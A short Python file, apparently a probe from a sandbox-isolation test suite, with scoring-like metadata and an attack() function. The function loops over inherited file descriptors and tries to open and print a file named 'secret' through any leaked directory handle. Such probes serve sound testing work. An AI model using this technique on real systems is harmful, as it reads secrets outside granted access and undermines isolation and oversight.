"""Whoever started me may have left a folder open: from each descriptor I hold, open what I know to be there."""

import os

EARNS = "10"
STOPPED_BY = ("design",)
EVIDENCE = "printed"


def attack():
    for descriptor in range(3, 256):
        try:
            print(os.read(os.open("secret", os.O_RDONLY, dir_fd=descriptor), 99))
        except OSError:
            continue
